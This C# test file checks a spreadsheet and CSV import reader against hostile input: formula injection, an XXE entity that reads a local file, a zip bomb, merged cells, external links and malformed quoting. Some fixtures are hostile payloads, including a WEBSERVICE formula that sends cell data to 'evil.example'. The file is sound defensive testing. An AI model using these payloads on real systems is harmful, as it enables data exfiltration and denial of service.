using System.IO.Compression;
using System.Text;
using Rotunda.Modules.Alliance.Registry.Tables;
using Xunit;

namespace Rotunda.Tests.Modules.Alliance;

/// <summary>Files that are no tables, or tables made to harm: each is refused with its reason, within bounds.</summary>
public sealed class HostileTableTests
{
    private const string Main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";

    [Fact]
    public void What_is_written_is_read_back_the_same()
    {
        string[][] rows = [["code", "name"], ["=1+1", "'=1"], ["-5", "@x"], ["+7", "'plain"], ["a\"b", "line\nbreak; tab\t, comma"], ["中文", "Ё"]];

        foreach (var bytes in new[] { TableWriter.Csv(rows), TableWriter.Xlsx("名称/[1]", rows) })
        {
            var (content, fault) = Read(bytes);
            Assert.Null(fault);
            Assert.Equal(rows, content!.Rows.Select(row => row.Cells.Select(TableText.Restore)));
        }
    }

    [Theory]
    [InlineData("")]
    [InlineData("plain")]
    [InlineData("=SUM(A1)")]
    [InlineData("'")]
    [InlineData("''=")]
    [InlineData("'it is")]
    [InlineData("\tTab")]
    [InlineData("\rReturn")]
    [InlineData("-73.5")]
    public void A_defused_text_comes_back_whole(string text)
    {
        var defused = TableText.Defuse(text);

        Assert.Equal(text, TableText.Restore(defused));
        Assert.False(defused.Length > 0 && "=+-@\t\r".Contains(defused[0], StringComparison.Ordinal));
    }

    [Theory]
    [InlineData("", "fault.import-empty")]
    [InlineData("\n\n\n", "fault.import-empty")]
    [InlineData("code,name\n", "fault.import-no-lines")]
    [InlineData("nothing,known\n", "fault.import-headings")]
    [InlineData("code,name\na,\"open\n", "fault.import-quotes")]
    [InlineData("code,name\n\"Bau\"man\",\"open\nb,c\nd,e\n", "fault.import-quotes")]
    [InlineData("code,name\nBau\"man,\"open\nb,c\n", "fault.import-quotes")]
    [InlineData("%PDF-1.7", "fault.import-kind")]
    [InlineData("PK\u0003\u0004 not an archive", "fault.import-unreadable")]
    public void What_is_no_table_is_refused_with_its_reason(string text, string expected) => Assert.Equal(expected, Read(Encoding.UTF8.GetBytes(text)).Fault!.TextKey);

    [Fact]
    public void An_old_or_locked_workbook_is_no_table() => Assert.Equal("fault.import-kind", Read([0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1]).Fault!.TextKey);

    [Fact]
    public void Huge_cells_and_too_many_columns_are_refused()
    {
        Assert.Equal("fault.import-cell", Read(Encoding.UTF8.GetBytes($"code,name\na,{new string('x', 40_000)}\n")).Fault!.TextKey);
        Assert.Equal("fault.import-too-wide", Read(Encoding.UTF8.GetBytes($"code{new string(',', 200)}\na\n")).Fault!.TextKey);
        Assert.Equal("fault.import-too-long", Read(Encoding.UTF8.GetBytes("code\n" + string.Concat(Enumerable.Repeat("a\n", TableReader.MostLines + 1)))).Fault!.TextKey);
    }

    [Fact]
    public void Merged_cells_are_refused_with_their_place()
    {
        var bytes = Workbook("""<row r="1"><c r="A1" t="inlineStr"><is><t>code</t></is></c></row><row r="2"><c r="A2" t="inlineStr"><is><t>a</t></is></c></row>""", """<mergeCells count="1"><mergeCell ref="B2:C3"/></mergeCells>""");

        var fault = Read(bytes).Fault!;

        Assert.Equal(("fault.import-merged", "B2:C3"), (fault.TextKey, fault.Value));
    }

    [Fact]
    public void A_formula_counts_as_what_it_last_gave()
    {
        var bytes = Workbook("""<row r="1"><c r="A1" t="inlineStr"><is><t>code</t></is></c></row><row r="2"><c r="A2" t="str"><f>WEBSERVICE("http://evil.example/"&amp;A1)</f><v>kept</v></c></row>""");

        var (content, _) = Read(bytes);

        Assert.Equal("kept", content!.Rows[1].Cells[0]);
    }

    [Fact]
    public void A_document_type_is_not_read_and_what_it_names_is_not_fetched()
    {
        var secret = Path.GetTempFileName();
        File.WriteAllText(secret, "secret-of-the-server");
        try
        {
            var bytes = Workbook("""<row r="1"><c r="A1" t="inlineStr"><is><t>code</t></is></c></row><row r="2"><c r="A2" t="inlineStr"><is><t>&x;</t></is></c></row>""", before: $"""<!DOCTYPE worksheet [<!ENTITY x SYSTEM "file://{secret}">]>""");

            var (content, fault) = Read(bytes);

            Assert.Equal("fault.import-unreadable", fault?.TextKey);
            Assert.Null(content);
        }
        finally
        {
            File.Delete(secret);
        }
    }

    [Fact]
    public void A_bomb_is_measured_and_refused()
    {
        using var bytes = new MemoryStream();
        using (var archive = new ZipArchive(bytes, ZipArchiveMode.Create, leaveOpen: true))
        {
            using var part = archive.CreateEntry("xl/worksheets/sheet1.xml", CompressionLevel.Optimal).Open();
            var zeros = new byte[1024 * 1024];
            for (var megabyte = 0; megabyte < 120; megabyte++) part.Write(zeros);
        }

        Assert.True(bytes.Length < 1024 * 1024);
        Assert.Equal("fault.import-bomb", Read(bytes.ToArray()).Fault!.TextKey);
    }

    [Fact]
    public void Links_to_other_files_are_left_alone()
    {
        var bytes = Workbook("""<row r="1"><c r="A1" t="inlineStr"><is><t>code</t></is></c></row><row r="2"><c r="A2" t="str"><f>[1]Sheet1!$A$1</f><v>linked</v></c></row>""",
            extra: ("xl/externalLinks/externalLink1.xml", $"""<externalLink xmlns="{Main}"><externalBook xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="rId1"/></externalLink>"""));

        Assert.Equal("linked", Read(bytes).Content!.Rows[1].Cells[0]);
    }

    [Fact]
    public void A_sheet_is_chosen_by_its_name_and_a_far_cell_takes_no_memory()
    {
        var far = Workbook("""<row r="1"><c r="A1" t="inlineStr"><is><t>code</t></is></c></row><row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>far</t></is></c></row>""");

        Assert.Contains(Read(far).Fault!.TextKey, new[] { "fault.import-too-wide", "fault.import-too-long" });
    }

    private static (TableContent? Content, Rotunda.Modules.Shared.FieldFault? Fault) Read(byte[] bytes) => TableReader.Read(bytes, new TableReading(), heading => heading is "code" or "name");

    /// <summary>A workbook with one sheet, whose parts a stranger wrote.</summary>
    private static byte[] Workbook(string rows, string after = "", string before = "", (string Path, string Xml)? extra = null)
    {
        using var bytes = new MemoryStream();
        bytes.Write(TableWriter.Xlsx("s", [["code"], ["x"]]));
        using (var archive = new ZipArchive(bytes, ZipArchiveMode.Update, leaveOpen: true))
        {
            archive.GetEntry("xl/worksheets/sheet1.xml")!.Delete();
            Put(archive, "xl/worksheets/sheet1.xml", $"""{before}<worksheet xmlns="{Main}"><sheetData>{rows}</sheetData>{after}</worksheet>""");
            if (extra is { } more) Put(archive, more.Path, more.Xml);
        }

        return bytes.ToArray();
    }

    private static void Put(ZipArchive archive, string path, string xml)
    {
        using var writer = new StreamWriter(archive.CreateEntry(path).Open());
        writer.Write(xml);
    }
}
